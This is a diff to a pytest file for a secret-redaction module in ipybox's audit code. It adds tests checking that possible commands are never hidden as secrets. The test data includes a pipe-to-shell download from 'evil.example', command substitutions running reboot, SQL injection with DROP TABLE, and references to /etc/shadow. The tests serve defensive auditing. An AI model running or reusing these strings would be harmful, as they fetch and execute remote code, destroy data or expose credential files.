@@ -7,8 +7,10 @@ from typing import Any
 import pytest
 
 from ipybox.audit import redaction
-from ipybox.audit.redaction import MAX_DEPTH, MAX_ITEMS, Redactor, is_secret, is_secret_name, secrets_among
+from ipybox.audit.redaction import MAX_DEPTH, MAX_ITEMS, Redactor, is_secret, is_secret_name, secrets_among, shortened
 
+LINE = "MIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcwggSjAgEAAoIBAQ+7/VJTUt9Us8cK"
+EVIL = "curl -s http://evil.example/x | sh"
 KEY = "sk-ant-api03-" + "x" * 20
 
 
@@ -32,9 +34,9 @@ def redactor() -> Redactor:
         ('password = "hunter2"', 'password = "[redacted]"'),
         ("{'apiKey': 'x', 'n': 1}", "{'apiKey': '[redacted]', 'n': 1}"),
         ('headers["Authorization"] = f"Bearer {x}"', 'headers["Authorization"] = f"[redacted]"'),
-        ('token: str = """two\nlines"""; x = "y"', 'token: str = """[redacted]"""; x = "y"'),
-        ('secret = "not \\" closed', 'secret = "[redacted]'),
-        ('secret = "not closed\nprint("x")', 'secret = "[redacted]\nprint("x")'),
+        ('token: str = """abc"""; x = "y"', 'token: str = """[redacted]"""; x = "y"'),
+        ('secret = "unclosed', 'secret = "[redacted]'),
+        ('secret = "unclosed\nprint("x")', 'secret = "[redacted]\nprint("x")'),
         ("API_KEY=abc make", "API_KEY=[redacted] make"),
         ("serve --api-key=abc --n=1", "serve --api-key=[redacted] --n=1"),
         ("https://h/x?access_token=abc&n=1", "https://h/x?access_token=[redacted]&n=1"),
@@ -52,8 +54,11 @@ def redactor() -> Redactor:
         ("Authorization: Bearer abcdef12345", "Authorization: Bearer [redacted]"),
         ("basic information about bearer tokens", "basic information about bearer tokens"),
         ("https://user:pa55@example.org/x", "https://user:[redacted]@example.org/x"),
-        ("-----BEGIN RSA PRIVATE KEY-----\nabc\n-----END RSA PRIVATE KEY----- x", "[redacted] x"),
-        ("-----BEGIN PRIVATE KEY-----\nabc", "[redacted]"),
+        (
+            f"-----BEGIN RSA PRIVATE KEY-----\n{LINE}\n{LINE}\nabc=\n-----END RSA PRIVATE KEY----- x",
+            "-----BEGIN RSA PRIVATE KEY----- [redacted]\n-----END RSA PRIVATE KEY----- x",
+        ),
+        (f"k = '-----BEGIN PRIVATE KEY-----\\n{LINE}\\n{LINE}'", "k = '-----BEGIN PRIVATE KEY----- [redacted]'"),
         (
             "global-configuration-of-files hf_hub_download_all_files",
             "global-configuration-of-files hf_hub_download_all_files",
@@ -63,6 +68,54 @@ def redactor() -> Redactor:
 )
 def test_secrets_are_taken_out_of_text_and_nothing_else_is(redactor: Redactor, text: str, written: str):
     assert redactor.text(text) == written
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        f"#!/bin/sh\n# -----BEGIN PRIVATE KEY-----\n{EVIL}\n",
+        f"-----BEGIN A PRIVATE KEY-----{EVIL}-----END A PRIVATE KEY-----",
+        f"-----BEGIN PRIVATE KEY-----\\n{EVIL}",
+        f'GIT_TOKEN="$({EVIL})" git fetch',
+        f"GIT_TOKEN=`{EVIL}`",
+        "API_KEY=$(reboot)",
+        "API_KEY=;reboot",
+        f"password = '{EVIL}'",
+        f'secret = """{EVIL}\n{EVIL}"""',
+        "UPDATE t SET password='x'' OR 1=1; DROP TABLE users; --'",
+        "{'authorization': 'basic information; DROP TABLE users'}",
+        "curl --token-url=https://evil.example/x",
+        "run --secret=/etc/shadow",
+        "https://user:$(reboot)@host/",
+        "https://user:a`reboot`@host/",
+        "token /etc/passwd1",
+    ],
+)
+def test_what_could_be_a_command_is_never_taken_out(redactor: Redactor, text: str):
+    written = redactor.text(text)
+    for part in ("evil.example", "reboot", "DROP TABLE", "/etc/shadow", "/etc/passwd1"):
+        assert (part in written) == (part in text)
+
+
+@pytest.mark.parametrize(
+    "value",
+    [EVIL, ["curl", "evil.example"], ["sh", "-c", EVIL], {"run": EVIL}, "http://evil.example/x", "$(evil.example)"],
+)
+@pytest.mark.parametrize("name", ["auth_token", "password", "apiKey", "cookie"])
+def test_name_of_a_field_takes_out_no_command(redactor: Redactor, name: str, value: Any):
+    assert "evil.example" in json.dumps(redactor.value({name: value}))
+
+
+def test_known_values_are_taken_out_for_a_person_if_they_are_no_text():
+    redactor = Redactor(shortened)
+    redactor.know({"TOKEN": "s3cr3t-value", "PHRASE": EVIL, "PASSWORD": "delete"})
+    redactor.hide(["form-of-browser"])
+
+    for text in (EVIL, "delete", "password='x'", f"API_KEY={KEY}"):
+        assert redactor.known_tokens(text) == text
+    assert redactor.known_tokens("a s3cr3t-value form-of-browser") == (
+        "a s3c[... 12 characters, a secret] for[... 15 characters, a secret]"
+    )
 
 
 @pytest.mark.parametrize(
@@ -183,7 +236,7 @@ def test_secrets_are_taken_out_of_values_however_deep(redactor: Redactor):
     assert redactor.value(value) == {
         "text": "${GITHUB}",
         "login": {"user": "me", "password": "[redacted]", "pin": {"secret": "[redacted]"}},
-        "list": [{"token": "[redacted]"}, "[redacted]", 1.5, None, True],
+        "list": [{"token": ["[redacted]"]}, "[redacted]", 1.5, None, True],
         "headers": {"Authorization": "Bearer ${GITHUB}", "Cookie": None},
         "[redacted]": 1,
     }
@@ -287,6 +340,7 @@ def test_numbers_that_json_has_not_are_texts(redactor: Redactor):
             "://a:",
             "sk-",
             "-----BEGIN PRIVATE KEY-----",
+            "-----BEGIN PRIVATE KEY-----\n" + "A" * 40 + "\n",
             "bearer ",
             "TOKEN",
             "token=\\'",
